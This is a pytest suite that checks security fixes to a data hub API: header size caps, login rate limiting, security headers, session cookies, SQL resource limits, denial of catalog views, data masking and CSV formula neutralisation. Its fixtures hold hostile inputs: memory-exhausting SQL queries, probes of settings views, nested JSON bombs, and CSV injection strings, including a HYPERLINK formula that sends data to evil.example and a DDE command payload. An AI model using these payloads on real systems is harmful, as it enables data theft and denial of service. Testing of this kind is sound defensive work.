"""The holes an outside test found (issue 16), each turned into a test against the real app over HTTP:
header size, failed-auth rate limit per address, security headers, a session cookie that is not the key,
SQL bounded by bytes, catalog views with settings denied, malformed bodies as 4xx, the quality report
masked per role, CSV formula neutralisation."""

from __future__ import annotations

import re
import secrets
import socket
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from urllib.parse import urlparse

import httpx
import pytest
from api_fixtures import LiveServer, add_key, publish_fixture_snapshot, start_server, stop_server
from litestar.testing import TestClient

from api.app import create_app
from api.settings import ApiSettings
from hub.core.paths import HubPaths

AUTH_FAILURES = 5
TEMPLATES = Path(__file__).resolve().parent.parent / "api" / "templates"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    data_dir = tmp_path_factory.mktemp("holes")
    publish_fixture_snapshot(data_dir)
    live = start_server(data_dir, env_extra={
        "HUB_API_AUTH_FAILURE_LIMIT": str(AUTH_FAILURES),
        "HUB_API_SQL_TIMEOUT_MS": "2000",
        "HUB_API_SQL_ROW_LIMIT": "5000",
        "HUB_API_SQL_MAX_RESULT_BYTES": "5000000",
    })
    live.keys = {role: add_key(data_dir, f"holes-{role}", role) for role in ("analyst", "staff", "admin")}
    yield live
    stop_server(live)


def from_address(address: str, **headers: str) -> dict[str, str]:
    """uvicorn takes the client address from X-Forwarded-For when the peer is the local proxy (127.0.0.1)."""
    return {"X-Forwarded-For": address, **headers}


def raw_request(server: LiveServer, head: bytes, chunk: int = 65_536) -> bytes:
    """Send ``head`` over a plain socket as fast as the server takes it; return what the server answers."""
    url = urlparse(server.base_url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as sock:
        try:
            for i in range(0, len(head), chunk):
                sock.sendall(head[i : i + chunk])
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server closed the connection early: what it sent before is the answer
        answer = b""
        try:
            while part := sock.recv(65_536):
                answer += part
        except (ConnectionResetError, TimeoutError):
            pass
    return answer


# --- 7. headers, failed logins, security headers, session cookie --------------------------------------


def test_a_20_mb_header_is_refused_with_431_before_it_is_read(server: LiveServer) -> None:
    head = b"GET /api/tables HTTP/1.1\r\nHost: x\r\nX-API-Key: hub_" + b"a" * 20_000_000 + b"\r\n\r\n"
    answer = raw_request(server, head)
    assert answer.startswith(b"HTTP/1.1 431"), answer[:200]
    assert b"headers_too_large" in answer
    with server.client("analyst") as c:  # the server is fine afterwards
        assert c.get("/api/tables").status_code == 200


def test_an_ordinary_client_sending_a_huge_header_reads_the_431(server: LiveServer) -> None:
    """The server reads and drops what the client still sends after the 431, so the client gets the answer,
    not a connection reset."""
    for _ in range(3):
        response = httpx.get(f"{server.base_url}/api/tables", timeout=30,
                             headers={"Authorization": f"Bearer {server.keys['analyst']}", "X-Filler": "a" * 300_000})
        assert response.status_code == 431
        assert response.json()["code"] == "headers_too_large"


def test_the_app_itself_refuses_oversized_headers(tmp_path: Path) -> None:
    """The same cap inside the app, for an ASGI server other than ``hub serve``'s."""
    publish_fixture_snapshot(tmp_path)
    app = create_app(ApiSettings(paths=HubPaths(tmp_path), max_header_bytes=8_000))
    with TestClient(app) as client:
        response = client.get("/api/tables", headers={"X-API-Key": "hub_" + "b" * 10_000})
        assert response.status_code == 431
        assert response.headers["content-type"].startswith("application/problem+json")
        assert response.json()["code"] == "headers_too_large"
        assert client.get("/api/tables", headers={"X-API-Key": "hub_" + "b" * 100}).status_code == 401


def test_failed_authentication_is_limited_per_client_address(server: LiveServer) -> None:
    attacker, bystander = "203.0.113.7", "203.0.113.8"
    with httpx.Client(base_url=server.base_url, timeout=30) as c:
        statuses = [
            c.get("/api/tables", headers=from_address(attacker, **{"X-API-Key": "hub_" + secrets.token_urlsafe(32)}))
            .status_code
            for _ in range(AUTH_FAILURES + 3)
        ]
        assert statuses[:AUTH_FAILURES] == [401] * AUTH_FAILURES
        assert set(statuses[AUTH_FAILURES:]) == {429}, statuses
        # Past the limit even a good key from that address is not checked, and the login form refuses too.
        blocked = c.get("/api/tables", headers=from_address(attacker, **{"X-API-Key": server.keys["analyst"]}))
        assert blocked.status_code == 429
        body = blocked.json()
        assert body["code"] == "too_many_failed_logins" and body["message_zh"] and body["message_en"]
        assert 0 < int(blocked.headers["retry-after"]) <= 60
        assert c.post("/login", data={"key": server.keys["analyst"]}, headers=from_address(attacker)).status_code == 429
        # Another address is not affected; requests without any key are not failures.
        ok = c.get("/api/tables", headers=from_address(bystander, **{"X-API-Key": server.keys["analyst"]}))
        assert ok.status_code == 200
        assert c.get("/api/health", headers=from_address(attacker)).status_code == 200


def test_every_response_carries_security_headers(server: LiveServer) -> None:
    with server.client("admin") as c:
        for path in ("/login", "/", "/tables", "/api/tables", "/api/nothing-here", "/static/style.css"):
            response = c.get(path)
            assert response.headers["x-content-type-options"] == "nosniff", path
            assert response.headers["x-frame-options"] == "DENY", path
            assert response.headers["referrer-policy"] == "no-referrer", path
            csp = response.headers["content-security-policy"]
            script_src = re.search(r"script-src ([^;]*)", csp)
            assert script_src and "'unsafe-inline'" not in script_src.group(1), (path, csp)
            assert "frame-ancestors 'none'" in csp


def test_templates_have_no_inline_script() -> None:
    """The pages' CSP allows scripts from /static only, so no template may carry inline code."""
    for template in TEMPLATES.glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), template.name
        assert not re.search(r"\son[a-z]+\s*=", text, re.IGNORECASE), template.name
        assert "javascript:" not in text.lower(), template.name


def test_login_cookie_is_a_server_side_session_not_the_key(server: LiveServer) -> None:
    key = server.keys["analyst"]
    with httpx.Client(base_url=server.base_url, timeout=30) as c:
        response = c.post("/login", data={"key": key, "next": "/tables"})
        assert response.status_code == 303
        set_cookie = response.headers["set-cookie"]
        assert key not in set_cookie and key[4:] not in set_cookie
        assert "httponly" in set_cookie.lower() and "samesite=strict" in set_cookie.lower()
        assert "secure" not in set_cookie.lower().replace("samesite", "")  # HTTP deployment: off by default
        assert c.get("/api/tables").status_code == 200
        assert c.get("/tables").status_code == 200
        assert key.encode() not in (server.data_dir / "api" / "keys.sqlite").read_bytes()
        session = c.cookies.get("hub_session")
        assert session and session.encode() not in (server.data_dir / "api" / "keys.sqlite").read_bytes()
        c.get("/logout")
    # After logout the old session id opens nothing.
    with httpx.Client(base_url=server.base_url, cookies={"hub_session": session}, timeout=30) as c:
        assert c.get("/api/tables").status_code == 401


def test_a_revoked_key_ends_its_sessions(tmp_path: Path) -> None:
    from api.keys import KeyStore

    store = KeyStore(tmp_path)
    store.add("someone", "analyst")
    session = store.start_session("someone", hours=1)
    assert store.session(session) is not None
    store.revoke("someone")
    assert store.session(session) is None
    store.add("someone", "admin")  # a new key of the same name does not inherit the old sessions
    assert store.session(session) is None


def test_cookie_is_secure_when_configured(tmp_path: Path) -> None:
    publish_fixture_snapshot(tmp_path)
    key = add_key(tmp_path, "secure-analyst", "analyst")
    app = create_app(ApiSettings(paths=HubPaths(tmp_path), cookie_secure=True))
    with TestClient(app, base_url="https://testserver") as client:
        response = client.post("/login", data={"key": key}, follow_redirects=False)
        assert response.status_code == 303
        assert "secure" in [part.strip().lower() for part in response.headers["set-cookie"].split(";")]


# --- 2, 5, 6: SQL bounded by bytes, catalog views denied, malformed bodies ----------------------------


def post_sql(server: LiveServer, sql: str, role: str = "analyst") -> httpx.Response:
    with server.client(role) as c:
        return c.post("/api/sql", json={"sql": sql})


def peak_rss_mb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) // 1024
    return 0


@pytest.mark.parametrize("sql", [
    "SELECT length(format('{:>{}}','x',2000000000))",
    "SELECT printf('%*d',1000000000,1)",
    "SELECT printf('%.*f',1000000000,1.5)",
    "SELECT format('{0:>{1}}','x',2000000000)",
    "SELECT format('{:>{}}','x',w) FROM (SELECT 2000000000 AS w)",
    "SELECT length(printf('%99999999d',1))",
    "SELECT repeat('x',1000000) FROM range(1000)",
    "SELECT to_base(1, 2, 2000000000)",
    "SELECT bitstring('1', 2000000000)",
])
def test_widths_and_sizes_taken_from_arguments_are_refused_at_once(server: LiveServer, sql: str) -> None:
    started = time.monotonic()
    response = post_sql(server, sql)
    assert time.monotonic() - started < 2
    assert response.status_code == 400, response.text[:300]
    assert response.json()["code"] == "not_allowed"
    assert peak_rss_mb(server.process.pid) < 1500


def test_small_argument_widths_still_work(server: LiveServer) -> None:
    body = post_sql(server, "SELECT printf('%*d', 5, 42) AS a, format('{:>{}}', 'x', 3) AS b").json()
    assert body["rows"] == [["   42", "  x"]]


def test_a_result_over_the_byte_cap_is_stopped_not_sent(server: LiveServer) -> None:
    """10 MB of rows within the row limit: the query is stopped at the 5 MB cap of this server (413)."""
    started = time.monotonic()
    response = post_sql(server, "SELECT repeat('x', 10000) AS s FROM range(1000)")
    assert time.monotonic() - started < 5
    assert response.status_code == 413, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert body["code"] == "result_too_large" and body["max_bytes"] == 5_000_000
    assert len(response.content) < 10_000
    ok = post_sql(server, "SELECT repeat('x', 1000) AS s FROM range(1000)")  # 1 MB: fine
    assert ok.status_code == 200 and ok.json()["row_count"] == 1000


@pytest.mark.parametrize("sql", [
    "SELECT * FROM pg_catalog.pg_settings",
    "SELECT name, setting FROM pg_settings WHERE name = 'temp_directory'",
    "SELECT (SELECT setting FROM pg_settings LIMIT 1)",
    "SELECT * FROM town_dossier WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_settings)",
    "SELECT * FROM duckdb_settings",
    "SELECT * FROM main.duckdb_databases",
    "SELECT * FROM pg_catalog.pg_database",
    'SELECT * FROM "PG_SETTINGS"',
    "WITH s AS (SELECT * FROM pg_catalog.pg_settings) SELECT * FROM s",
])
def test_catalog_views_showing_settings_or_paths_are_denied(server: LiveServer, sql: str) -> None:
    response = post_sql(server, sql)
    assert response.status_code == 400, response.text[:300]
    assert response.json()["code"] == "not_allowed"
    assert str(server.data_dir) not in response.text


def test_the_information_schema_of_tables_and_columns_still_works(server: LiveServer) -> None:
    response = post_sql(server, "SELECT table_name FROM information_schema.tables ORDER BY 1")
    assert response.status_code == 200
    assert ["town_dossier"] in response.json()["rows"]
    assert str(server.data_dir) not in response.text


@pytest.mark.parametrize("body", [
    b'{"sql": "select \xff"}',
    b'{"sql": "select 1", "x": "\xc3\x28"}',
    b'{"sql": "select 1", "params": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}",
    b"[" * 200_000 + b"]" * 200_000,
    b'{"sql": "select $a", "params": {"a": ' + b"[" * 900 + b"]" * 900 + b"}}",
    b'{"sql": "select 1", "params": {"a": ' + b"[" * 5000 + b"]" * 5000 + b"}}",
    b'{"sql": "select 1", "params": [1, 2]}',
])
def test_malformed_bodies_are_400_problems_not_500(server: LiveServer, body: bytes) -> None:
    headers = {"Authorization": f"Bearer {server.keys['analyst']}", "content-type": "application/json"}
    started = time.monotonic()
    response = httpx.post(f"{server.base_url}/api/sql", content=body, headers=headers, timeout=30)
    assert time.monotonic() - started < 3
    assert 400 <= response.status_code < 500, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["message_zh"] and problem["message_en"] and "Traceback" not in response.text


# --- 4: the quality report masked per role ------------------------------------------------------------

QUALITY_FIXTURE = Path(__file__).resolve().parent / "fixtures" / "quality" / "report_with_names.json"
NAMES = ("程某海", "鲍某英", "13912345678")


@pytest.fixture(scope="module")
def quality_report(server: LiveServer) -> str:
    """A report of the sample data (a flood-duty key with a name, a missing phone, a grid worker's mobile),
    as JSON and as the HTML the real renderer makes of it."""
    import json

    from orchestration.quality.render import render_html

    report = json.loads(QUALITY_FIXTURE.read_text(encoding="utf-8"))
    folder = HubPaths(server.data_dir).quality_reports
    folder.mkdir(parents=True, exist_ok=True)
    name = "quality_20991231_235959_names"
    (folder / f"{name}.json").write_text(json.dumps(report, ensure_ascii=False), encoding="utf-8")
    (folder / f"{name}.html").write_text(render_html(report, {}, {}), encoding="utf-8")
    return name


def quality_views(server: LiveServer, role: str, name: str) -> dict[str, str]:
    with server.client(role) as c:
        views = {path: c.get(path) for path in (
            "/api/quality/reports/latest", f"/api/quality/reports/{name}", f"/quality/reports/{name}", "/quality")}
    for path, response in views.items():
        assert response.status_code == 200, (role, path, response.text[:300])
    return {path: response.text for path, response in views.items()}


def test_an_analyst_reads_the_quality_report_masked_like_tables(server: LiveServer, quality_report: str) -> None:
    for path, text in quality_views(server, "analyst", quality_report).items():
        for name in NAMES:
            assert name not in text, (path, name)
        if path != "/quality":  # the page shows the latest report's body
            assert "程**" in text and "139****5678" in text, path
    body = httpx.get(f"{server.base_url}/api/quality/reports/latest",
                     headers={"Authorization": f"Bearer {server.keys['analyst']}"}).json()
    finding = next(c for c in body["checks"] if c["check_name"] == "uniqueness:water.flood_duty")["findings"][0]
    assert finding["key"] == finding["value"] == "SL1030115 / 行政责任人 / 程** / 2026"
    assert finding["location"] == "water/水利数据_20260630.xlsx 第 275 行"  # what is not personal stays


@pytest.mark.parametrize("role", ["staff", "admin"])
def test_staff_and_admins_read_the_names_as_in_tables(server: LiveServer, quality_report: str, role: str) -> None:
    views = quality_views(server, role, quality_report)
    assert "程某海" in views["/api/quality/reports/latest"] and "程某海" in views[f"/quality/reports/{quality_report}"]


def test_report_masking_rules_match_the_source_contracts() -> None:
    """The report's rules name the contracts' own key fields, and every field of a person's name or number."""
    from api.masking import MASK_RULES, SOURCE_FIELD_RULES, SOURCE_KEY_FIELDS
    from orchestration.ingest.contracts import SOURCES

    personal = {"姓名", "手机", "电话", "联系电话", "联系人", "负责人"}
    for source in SOURCES:
        for entity in source.entities:
            ref = f"{source.name}.{entity.name}"
            for field in entity.field_names:
                if field in personal:
                    assert field in SOURCE_FIELD_RULES.get(ref, {}), (ref, field)
            if ref in SOURCE_FIELD_RULES:
                assert SOURCE_KEY_FIELDS[ref] == tuple(entity.key), ref
                assert all(rule in MASK_RULES for rule in SOURCE_FIELD_RULES[ref].values())


# --- 7: CSV exports neutralise formulas -----------------------------------------------------------------


def test_csv_export_neutralises_formulas_in_text_cells(tmp_path: Path) -> None:
    import csv
    import io
    import time as clock

    import duckdb
    from api_fixtures import write_build_db

    from orchestration.publish import publish_snapshot

    paths = HubPaths(tmp_path)
    paths.warehouse.mkdir(parents=True)
    build = paths.warehouse / f"formulas-{clock.monotonic_ns()}.duckdb"
    models = write_build_db(build, 0)
    evil = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]
    with duckdb.connect(str(build)) as con:
        for i, name in enumerate(evil):
            con.execute("INSERT INTO marts.rescue_teams VALUES (?, ?, '社会', '330109001', -5, ?, true, true)",
                        [f"EVIL{i}", name, name])
    publish_snapshot(build, paths.serving, models, as_of=date(2026, 6, 30))
    key = add_key(tmp_path, "csv-admin", "admin")
    with TestClient(create_app(ApiSettings(paths=paths))) as client:
        response = client.get("/api/tables/rescue_teams?team_id__in=" + ",".join(f"EVIL{i}" for i in range(len(evil)))
                              + "&_format=csv", headers={"X-API-Key": key})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["team_name"] for r in rows] == ["'" + name for name in evil]
    assert [r["specialty"] for r in rows] == ["'" + name for name in evil]
    assert {r["headcount"] for r in rows} == {"-5"}  # numbers are numbers, not text: left as they are
